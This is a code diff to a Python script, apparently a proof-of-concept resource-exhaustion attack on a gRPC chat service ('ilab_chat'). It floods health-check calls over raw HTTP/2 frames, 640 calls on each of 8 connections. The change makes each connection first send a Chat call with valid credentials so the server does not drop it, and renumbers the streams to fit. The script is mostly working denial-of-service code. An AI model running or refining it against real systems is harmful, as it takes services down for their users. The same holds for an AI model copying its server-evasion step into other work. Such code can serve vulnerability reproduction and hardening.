@@ -28,6 +28,7 @@ from upstream import Upstream
 SERVING = health_pb2.HealthCheckResponse.SERVING
 WATCH = http2.fields("/grpc.health.v1.Health/Watch")
 CHECK = http2.fields("/grpc.health.v1.Health/Check")
+CHAT = http2.fields("/ilab_chat.v1.ChatService/Chat")
 ASKED = health_pb2.HealthCheckRequest(service="ilab_chat.v1.ChatService").SerializeToString()
 EXHAUSTED = grpc.StatusCode.RESOURCE_EXHAUSTED
 #: Number of calls that the attack sends at once.
@@ -37,9 +38,9 @@ MEMORY = 100 * 1024 * 1024
 
 
 def requests(pairs: http2.Pairs, count: int, *, complete: bool = True, first: int = 0) -> bytes:
-    """Return the frames of *count* calls, skipping *first* stream ids. Unless *complete*, only their headers."""
+    """Return the frames of *count* calls, skipping *first* + 1 stream ids. Unless *complete*, only their headers."""
     head = http2.hpack(pairs)
-    streams = range(1 + 2 * first, 1 + 2 * (first + count), 2)
+    streams = range(3 + 2 * first, 3 + 2 * (first + count), 2)
     if complete:
         return b"".join(http2.request(pairs, http2.message(ASKED), stream) for stream in streams)
     return b"".join(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, head) for stream in streams)
@@ -48,11 +49,14 @@ def requests(pairs: http2.Pairs, count: int, *, complete: bool = True, first: in
 def attack(address: str, pairs: http2.Pairs, opened: ExitStack, *, complete: bool) -> None:
     """Open 640 calls on each of 8 connections, and wait for the answers to complete ones.
 
-    gRPC core rejects calls at random while more than 1,000 of a method are pending, so they are sent in batches.
+    Each connection has made a call with valid credentials before: otherwise the server would cut it.
     """
     for _ in range(8):
         connection = opened.enter_context(http2.Connection(address))
-        connection.send([http2.OPENING, http2.frame(http2.SETTINGS, 1, 0)])
+        connection.send([http2.OPENING, http2.frame(http2.SETTINGS, 1, 0), http2.request(CHAT, http2.message(b""))])
+        received = b""
+        while http2.status_in(received) is None:
+            received += more(connection)
         received = b""
         for first in range(0, 640, BATCH):
             connection.send([requests(pairs, BATCH, complete=complete, first=first)])
